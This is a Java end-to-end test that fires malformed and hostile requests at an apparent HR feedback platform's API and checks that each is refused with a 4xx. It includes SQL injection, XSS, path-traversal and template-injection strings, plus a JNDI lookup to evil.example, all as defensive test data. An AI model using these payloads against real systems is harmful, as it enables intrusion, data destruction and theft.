package org.feedback360.e2e;

import org.junit.jupiter.api.Test;

import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

import static org.feedback360.e2e.Platform.asHrPortal;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Hostile and broken requests as an HR portal could send them, through the gateway with a
 * real token. Every one must get a 4xx application/problem+json answer — never a 5xx,
 * never a stack trace — and none may leave anything behind in the directory, the
 * instruments or the cycles.
 */
class BadInputCorpusIT {

    record Case(String name, String method, String path, String contentType, String body) {
    }

    /** Strings that must never do anything but be refused where they are not valid data. */
    static final List<String> INJECTIONS = List.of(
            "' OR '1'='1", "1; DROP TABLE person;--", "\"); DELETE FROM cycle; --", "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>", "${jndi:ldap://evil.example/a}", "{{7*7}}", "../../../../etc/passwd",
            "%00", "\u0000", "admin'--", "' UNION SELECT password FROM users --");

    static final String VALID_PERSON = "{\"name\":\"Valid Name\",\"email\":\"valid@acme.example\",\"locale\":\"en\"}";

    static List<Case> corpus() {
        List<Case> c = new ArrayList<>();
        String person = "/api/v1/people/E-CORPUS-1";

        // Malformed JSON, on every JSON endpoint.
        List<String> malformed = List.of("{", "}", "[", "{\"name\":}", "{\"name\":\"a\",}", "{'name':'a'}", "nul", "tru",
                "{\"name\":\"a\"} trailing", "\"just a string\"", "42", "{\"name\":\"\\uZZZZ\"}", "{\"a\":" + "[".repeat(2000),
                "\uFEFF{\"name\":\"a\"", "{\"name\" \"a\"}");
        for (String body : malformed) {
            c.add(new Case("malformed person " + body.substring(0, Math.min(12, body.length())), "PUT", person, "application/json", body));
            c.add(new Case("malformed import", "POST", "/api/v1/people/import", "application/json", body));
            c.add(new Case("malformed instrument", "POST", "/api/v1/instruments", "application/json", body));
            c.add(new Case("malformed cycle", "POST", "/api/v1/cycles", "application/json", body));
        }
        c.add(new Case("empty body", "PUT", person, "application/json", ""));
        c.add(new Case("empty import", "POST", "/api/v1/people/import", "application/json", ""));

        // Wrong types for every field of a person.
        Map<String, List<String>> wrongTypes = new TreeMap<>(Map.of(
                "name", List.of("123", "true", "[]", "{}", "null"),
                "email", List.of("5", "[\"a@b.c\"]", "{}", "null"),
                "locale", List.of("7", "[]", "{}"),
                "managerEmployeeId", List.of("{}", "[1]", "1.5"),
                "active", List.of("\"yes\"", "[]", "{}", "2")));
        wrongTypes.forEach((field, values) -> values.forEach(v -> c.add(new Case("person " + field + "=" + v, "PUT", person,
                "application/json", person("\"" + field + "\":" + v)))));
        c.add(new Case("duplicate key", "PUT", person, "application/json",
                "{\"name\":\"A\",\"email\":\"a@acme.example\",\"email\":\"b@acme.example\"}"));

        // Unknown fields, including attempts to set what only the token may say.
        for (String extra : List.of("\"tenant\":\"globex\"", "\"tenantId\":\"globex\"", "\"employeeId\":\"E-9\"", "\"salary\":1",
                "\"roles\":[\"hr-admin\"]", "\"__proto__\":{}", "\"id\":\"x\"")) {
            c.add(new Case("person unknown " + extra, "PUT", person, "application/json",
                    VALID_PERSON.replaceFirst("}$", "," + extra + "}")));
        }

        // Out-of-range and invalid values.
        for (String body : List.of(
                "{\"name\":\"\",\"email\":\"a@acme.example\"}",
                "{\"name\":\"   \",\"email\":\"a@acme.example\"}",
                "{\"name\":\"" + "x".repeat(201) + "\",\"email\":\"a@acme.example\"}",
                "{\"name\":\"" + "x".repeat(100_000) + "\",\"email\":\"a@acme.example\"}",
                "{\"name\":\"A\",\"email\":\"not-an-email\"}",
                "{\"name\":\"A\",\"email\":\"" + "a".repeat(330) + "@acme.example\"}",
                "{\"name\":\"A\",\"email\":\"a@acme.example\",\"locale\":\"english\"}",
                "{\"name\":\"A\",\"email\":\"a@acme.example\",\"managerEmployeeId\":\"E-CORPUS-1\"}",
                "{\"name\":\"A\",\"email\":\"a@acme.example\",\"managerEmployeeId\":\"NO-SUCH-PERSON\"}",
                "{\"email\":\"a@acme.example\"}",
                "{\"name\":\"A\"}",
                "{}")) {
            c.add(new Case("person invalid value", "PUT", person, "application/json", body));
        }

        // Injection strings wherever the value has a format: ids, e-mail, locale, manager, keys, dates.
        for (String inj : INJECTIONS) {
            String json = jsonString(inj);
            c.add(new Case("inject email", "PUT", person, "application/json", "{\"name\":\"A\",\"email\":" + json + "}"));
            c.add(new Case("inject locale", "PUT", person, "application/json",
                    "{\"name\":\"A\",\"email\":\"a@acme.example\",\"locale\":" + json + "}"));
            c.add(new Case("inject manager", "PUT", person, "application/json",
                    "{\"name\":\"A\",\"email\":\"a@acme.example\",\"managerEmployeeId\":" + json + "}"));
            c.add(new Case("inject import id", "POST", "/api/v1/people/import", "application/json",
                    "[{\"employeeId\":" + json + ",\"name\":\"A\",\"email\":\"a@acme.example\"}]"));
            c.add(new Case("inject cycle instrument", "POST", "/api/v1/cycles", "application/json",
                    cycle("\"instrument\":{\"key\":" + json + ",\"version\":1}")));
            c.add(new Case("inject cycle subject", "POST", "/api/v1/cycles", "application/json",
                    cycle("\"subjects\":[" + json + "]")));
            c.add(new Case("inject cycle date", "POST", "/api/v1/cycles", "application/json",
                    "{\"name\":\"C\",\"instrument\":{\"key\":\"leader-follower\",\"version\":1},\"opensAt\":" + json
                            + ",\"closesAt\":\"2031-01-01T00:00:00Z\"}"));
            c.add(new Case("inject instrument key", "POST", "/api/v1/instruments", "application/json",
                    "{\"key\":" + json + ",\"name\":{\"en\":\"X\"},\"locales\":[\"en\"],\"raterGroups\":[\"SELF\"],"
                            + "\"dimensions\":[{\"key\":\"D\",\"name\":{\"en\":\"D\"},\"items\":[{\"id\":\"d-1\",\"text\":{\"en\":\"T\"}}]}]}"));
        }

        // Hostile paths: traversal, injection in ids, ids of the wrong shape.
        for (String p : List.of("/api/v1/people/..%2F..%2Fadmin", "/api/v1/people/%27%20OR%20%271%27%3D%271",
                "/api/v1/people/%3Cscript%3E", "/api/v1/cycles/not-a-uuid", "/api/v1/cycles/..%2F..%2Fq%2Fmetrics",
                "/api/v1/cycles/00000000-0000-0000-0000-000000000000", "/api/v1/instruments/x/versions/NaN",
                "/api/v1/instruments/%00/versions/1", "/api/v1/people/" + "A".repeat(5000))) {
            c.add(new Case("path " + p.substring(0, Math.min(40, p.length())), "GET", p, null, null));
        }

        // Wrong content types for JSON endpoints.
        for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x", "application/octet-stream")) {
            c.add(new Case("content type " + type, "PUT", person, type, VALID_PERSON));
            c.add(new Case("content type " + type, "POST", "/api/v1/cycles", type, cycle("\"name\":\"C\"")));
        }

        // CSV imports that are broken.
        for (String csv : List.of("", "employeeId,name\nE-1,A", "employeeId,name,email\nE-1,\"A,a@acme.example",
                "employeeId,name,email,locale,managerEmployeeId,active\nE-1,A,not-an-email,en,,true",
                "employeeId,name,email,locale,managerEmployeeId,active\nE-1,A,a@acme.example,en,E-1,true",
                "employeeId,name,email,locale,managerEmployeeId,active\n'; DROP TABLE person;--,A,a@acme.example,en,,true",
                "employeeId,name,email,locale,managerEmployeeId,active\nE-1,A,a@acme.example,en,,maybe")) {
            c.add(new Case("csv", "POST", "/api/v1/people/import", "text/csv", csv));
        }

        // Cycles that break the rules.
        for (String body : List.of(
                cycle("\"anonymityThreshold\":1"), cycle("\"anonymityThreshold\":0"), cycle("\"anonymityThreshold\":-3"),
                cycle("\"anonymityThreshold\":\"three\""), cycle("\"closesAt\":\"2020-01-01T00:00:00Z\""),
                cycle("\"instrument\":{\"key\":\"leader-follower\",\"version\":999}"),
                cycle("\"instrument\":{\"key\":\"leader-follower\",\"version\":0}"),
                cycle("\"subjects\":[\"NO-SUCH-PERSON\"]"), cycle("\"reminders\":[\"tomorrow\"]"),
                cycle("\"reminders\":[\"P1D\",\"P1D\",\"P1D\",\"P1D\",\"P1D\",\"P1D\",\"P1D\",\"P1D\",\"P1D\",\"P1D\",\"P1D\"]"),
                cycle("\"name\":\"\""), cycle("\"managerVisible\":\"sometimes\""), cycle("\"subjects\":\"E-0200\""))) {
            c.add(new Case("cycle rule", "POST", "/api/v1/cycles", "application/json", body));
        }

        // Instruments that are invalid.
        for (String body : List.of(
                "{\"key\":\"Bad Key\",\"name\":{\"en\":\"X\"},\"locales\":[\"en\"],\"raterGroups\":[\"SELF\"],\"dimensions\":[]}",
                "{\"key\":\"ok-key\",\"name\":{\"en\":\"X\"},\"locales\":[\"en\"],\"raterGroups\":[\"BOSS\"],\"dimensions\":[]}",
                "{\"key\":\"ok-key\",\"name\":{\"en\":\"X\"},\"locales\":[\"en\"],\"raterGroups\":[\"SELF\"],\"dimensions\":[]}",
                "{\"key\":\"ok-key\",\"name\":{\"en\":\"X\"},\"locales\":[\"en\",\"de\"],\"raterGroups\":[\"SELF\"],"
                        + "\"dimensions\":[{\"key\":\"D\",\"name\":{\"en\":\"D\"},\"items\":[{\"id\":\"d-1\",\"text\":{\"en\":\"T\"}}]}]}",
                "{\"key\":\"ok-key\",\"name\":{\"en\":\"X\"},\"locales\":[\"en\"],\"raterGroups\":[\"SELF\"],"
                        + "\"dimensions\":[{\"key\":\"D\",\"name\":{\"en\":\"D\"},\"items\":[{\"id\":\"d-1\",\"text\":{\"en\":\"T\"}},{\"id\":\"d-1\",\"text\":{\"en\":\"T\"}}]}]}",
                "{\"key\":\"leader-follower\",\"name\":{\"en\":\"X\"},\"locales\":[\"en\"],\"raterGroups\":[\"SELF\"],"
                        + "\"dimensions\":[{\"key\":\"D\",\"name\":{\"en\":\"D\"},\"items\":[{\"id\":\"d-1\",\"text\":{\"en\":\"" + "T".repeat(600) + "\"}}]}]}")) {
            c.add(new Case("instrument invalid", "POST", "/api/v1/instruments", "application/json", body));
        }
        c.add(new Case("instrument built-in replaced", "PUT", "/api/v1/instruments/leader-follower/versions/1", "application/json",
                "{\"key\":\"leader-follower\",\"name\":{\"en\":\"X\"},\"locales\":[\"en\"],\"raterGroups\":[\"SELF\"],"
                        + "\"dimensions\":[{\"key\":\"D\",\"name\":{\"en\":\"D\"},\"items\":[{\"id\":\"d-1\",\"text\":{\"en\":\"T\"}}]}]}"));

        // Huge bodies: far beyond any legitimate request.
        c.add(new Case("huge import", "POST", "/api/v1/people/import", "application/json",
                "[" + String.join(",", java.util.Collections.nCopies(60_000,
                        "{\"employeeId\":\"E-HUGE\",\"name\":\"" + "x".repeat(100) + "\",\"email\":\"bad\"}")) + "]"));
        c.add(new Case("huge string", "PUT", person, "application/json",
                "{\"name\":\"" + "x".repeat(12_000_000) + "\",\"email\":\"a@acme.example\"}"));
        return c;
    }

    @Test
    void everyBadRequestIsRefusedWithAProblemAndLeavesNothingBehind() {
        Map<String, Object> before = inventory();
        List<Case> corpus = corpus();
        List<String> failures = new ArrayList<>();
        int fiveHundreds = 0;
        for (Case k : corpus) {
            HttpResponse<String> r;
            try {
                r = send(k);
            } catch (java.io.UncheckedIOException noAnswer) {
                // Counted, not thrown: the summary must show what the whole corpus got.
                failures.add(k.name() + " " + k.method() + " " + abbreviate(k.path()) + " -> " + noAnswer.getMessage());
                continue;
            }
            int s = r.statusCode();
            String type = r.headers().firstValue("Content-Type").orElse("");
            if (s >= 500) {
                fiveHundreds++;
            }
            if (s < 400 || s >= 500 || !type.startsWith("application/problem+json")) {
                failures.add(k.name() + " " + k.method() + " " + abbreviate(k.path()) + " -> " + s + " " + type + " "
                        + abbreviate(r.body()));
            }
        }
        Map<String, Object> after = inventory();
        Summary.record("bad requests", corpus.size(), failures.size());
        System.out.printf("bad-input corpus: %d requests, %d refused with 4xx problem+json, %d 5xx%n",
                corpus.size(), corpus.size() - failures.size(), fiveHundreds);
        assertTrue(corpus.size() >= 200, "corpus has " + corpus.size() + " cases");
        assertEquals(List.of(), failures);
        assertEquals(before, after, "the corpus must not change what is stored");
    }

    static HttpResponse<String> send(Case k) {
        return RawHttp.send(k.method(), k.path(), Platform.hrPortalToken(), k.contentType(), k.body(), Map.of());
    }

    /** What the tenant has stored, in numbers: any change means a bad request left something behind. */
    static Map<String, Object> inventory() {
        return Map.of(
                "people", asHrPortal().queryParam("size", 1).get("/api/v1/people").then().statusCode(200).extract().path("total"),
                "instruments", asHrPortal().get("/api/v1/instruments").then().statusCode(200).extract().jsonPath().getList("$").size(),
                "cycles", asHrPortal().get("/api/v1/cycles").then().statusCode(200).extract().body().asString().length());
    }

    static String cycle(String override) {
        Map<String, String> fields = new TreeMap<>(Map.of(
                "name", "\"Corpus cycle\"",
                "instrument", "{\"key\":\"leader-follower\",\"version\":1}",
                "subjects", "[\"E-0200\"]",
                "opensAt", "\"2030-01-01T00:00:00Z\"",
                "closesAt", "\"2030-02-01T00:00:00Z\""));
        return object(fields, override);
    }

    /** The fields as a JSON object, with one field replaced or added by {@code "key":value}. */
    static String object(Map<String, String> fields, String override) {
        String key = override.substring(1, override.indexOf('"', 1));
        fields.put(key, override.substring(override.indexOf(':') + 1));
        StringBuilder b = new StringBuilder("{");
        fields.forEach((k, v) -> b.append(b.length() > 1 ? "," : "").append('"').append(k).append("\":").append(v));
        return b.append('}').toString();
    }

    static String person(String override) {
        return object(new TreeMap<>(Map.of("name", "\"Valid Name\"", "email", "\"valid@acme.example\"", "locale", "\"en\"")), override);
    }

    static String jsonString(String s) {
        StringBuilder b = new StringBuilder("\"");
        for (char ch : s.toCharArray()) {
            switch (ch) {
                case '"' -> b.append("\\\"");
                case '\\' -> b.append("\\\\");
                default -> {
                    if (ch < 0x20) {
                        b.append(String.format("\\u%04x", (int) ch));
                    } else {
                        b.append(ch);
                    }
                }
            }
        }
        return b.append('"').toString();
    }

    private static String abbreviate(String s) {
        return s.length() > 200 ? s.substring(0, 200) + "…" : s;
    }
}
